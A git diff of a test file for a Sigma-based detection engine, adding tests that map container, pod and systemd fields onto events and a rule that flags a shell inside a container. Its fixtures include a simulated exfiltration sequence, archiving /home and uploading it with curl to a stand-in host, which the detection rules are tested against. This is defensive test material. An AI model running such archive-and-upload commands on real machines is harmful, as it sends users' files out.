@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { AuthAction, Direction, Event, FileAction, NetworkAction, ProcessAction } from "@vigil/proto";
-import { compileBuiltinRules, DetectionEngine, testRules, toSigmaEvent } from "../../src/sigma";
+import { compileBuiltinRules, compileRules, DetectionEngine, testRules, toSigmaEvent } from "../../src/sigma";
 import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
@@ -46,6 +46,54 @@ describe("field mapping", () => {
     expect(s.timeMs).toBe(T0);
     const exit = Event.fromPartial({ body: { $case: "process", process: { action: ProcessAction.PROCESS_ACTION_EXIT, exe: "/tmp/x" } } });
     expect(toSigmaEvent(exit, ctx)!.logsource.category).toBe("process_termination");
+  });
+  it("maps where a process runs (cgroup, container, pod, unit), and leaves them out when unknown", () => {
+    const id = "ab".repeat(32);
+    const inContainer = procEv("/bin/sh", "sh -c id", T0, {
+      cgroupPath: `/kubepods.slice/kubepods-pod1_2.slice/cri-containerd-${id}.scope`,
+      containerId: id,
+      containerRuntime: "containerd",
+      podUid: "6a3c0c0e-8a4b-4b8e-9c1d-2f3e4a5b6c7d",
+      systemdUnit: `cri-containerd-${id}.scope`,
+    });
+    expect(toSigmaEvent(inContainer, ctx)!.fields).toMatchObject({
+      CgroupPath: `/kubepods.slice/kubepods-pod1_2.slice/cri-containerd-${id}.scope`,
+      ContainerId: id,
+      ContainerRuntime: "containerd",
+      PodUid: "6a3c0c0e-8a4b-4b8e-9c1d-2f3e4a5b6c7d",
+      SystemdUnit: `cri-containerd-${id}.scope`,
+    });
+    const onHost = toSigmaEvent(procEv("/bin/sh", "sh -c id", T0, { cgroupPath: "/system.slice/cron.service", systemdUnit: "cron.service" }), ctx)!.fields;
+    expect(onHost).not.toHaveProperty("ContainerId");
+    expect(onHost.SystemdUnit).toBe("cron.service");
+    // So a rule can select containerised processes, or keep to the host.
+    const rule = `title: Shell in a container\nid: 7b0f6a7e-0c1e-4b5f-9a55-1f0f1e7d2c01\nlevel: high\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    selection:\n        Image|endswith: /sh\n        ContainerId|exists: true\n    condition: selection\n`;
+    const { ruleset, errors } = compileRules([{ name: "r.yml", text: rule }]);
+    expect(errors).toEqual([]);
+    const e = new DetectionEngine(ruleset);
+    expect(e.process(toSigmaEvent(inContainer, ctx)!)).toHaveLength(1);
+    expect(e.process(toSigmaEvent(procEv("/bin/sh", "sh -c id"), ctx)!)).toHaveLength(0);
+  });
+  it("gives file, network and DNS events the process categories' container fields", () => {
+    const id = "cd".repeat(32);
+    const where = { cgroupPath: `/system.slice/docker-${id}.scope`, containerId: id, containerRuntime: "docker", podUid: "", systemdUnit: `docker-${id}.scope` };
+    const fields = { CgroupPath: where.cgroupPath, ContainerId: id, ContainerRuntime: "docker", SystemdUnit: where.systemdUnit };
+    const bodies: Array<[Event["body"], string]> = [
+      [Event.fromPartial({ body: { $case: "file", file: { action: FileAction.FILE_ACTION_CREATE, path: "/etc/x", ...where } } }).body, "file_event"],
+      [Event.fromPartial({ body: { $case: "file", file: { action: FileAction.FILE_ACTION_DELETE, path: "/etc/x", ...where } } }).body, "file_delete"],
+      [Event.fromPartial({ body: { $case: "network", network: { action: NetworkAction.NETWORK_ACTION_OPEN, ...where } } }).body, "network_connection"],
+      [Event.fromPartial({ body: { $case: "network", network: { action: NetworkAction.NETWORK_ACTION_CLOSE, ...where } } }).body, "network_close"],
+      [Event.fromPartial({ body: { $case: "dns", dns: { queryName: "x.example", ...where } } }).body, "dns_query"],
+    ];
+    for (const [body, category] of bodies) {
+      const ev = toSigmaEvent(Event.fromPartial({ seq: 1, eventTimeMs: T0, body }), ctx)!;
+      expect(ev.logsource.category).toBe(category);
+      expect(ev.fields, category).toMatchObject(fields);
+      // Unknown (empty) is absent, as on process events: `ContainerId|exists` keeps its meaning.
+      expect(ev.fields).not.toHaveProperty("PodUid");
+    }
+    const onHost = toSigmaEvent(Event.fromPartial({ seq: 1, eventTimeMs: T0, body: { $case: "dns", dns: { queryName: "x.example" } } }), ctx)!.fields;
+    expect(onHost).not.toHaveProperty("ContainerId");
   });
   it("maps network direction the Sysmon way (Source = initiator)", () => {
     const net = (direction: Direction) =>
@@ -101,9 +149,11 @@ describe("built-in rule pack", () => {
       procEv("/usr/bin/tar", "tar czf /tmp/h.tgz /home", T0 + 60_000, { user: "eve" }),
       procEv("/usr/bin/curl", "curl -T /tmp/h.tgz https://x.example/", T0 + 120_000, { user: "eve" }),
     ];
-    expect(run(engine(), evs).map((m) => m.rule.title)).toEqual(["Login Followed By Archive And Upload"]);
+    // The upload alone is also "File Uploaded With An HTTP Client"; the correlation is what ties it to the login.
+    const correlated = (ms: ReturnType<typeof run>) => ms.map((m) => m.rule.title).filter((t) => t !== "File Uploaded With An HTTP Client");
+    expect(correlated(run(engine(), evs))).toEqual(["Login Followed By Archive And Upload"]);
     const other = [evs[0], procEv("/usr/bin/tar", "tar czf a b", T0 + 1, { user: "mallory" }), procEv("/usr/bin/curl", "curl -T a u", T0 + 2, { user: "mallory" })];
-    expect(run(engine(), other)).toEqual([]);
+    expect(correlated(run(engine(), other))).toEqual([]);
   });
   it("flags a login followed by a large outbound transfer", () => {
     const big = Event.fromPartial({
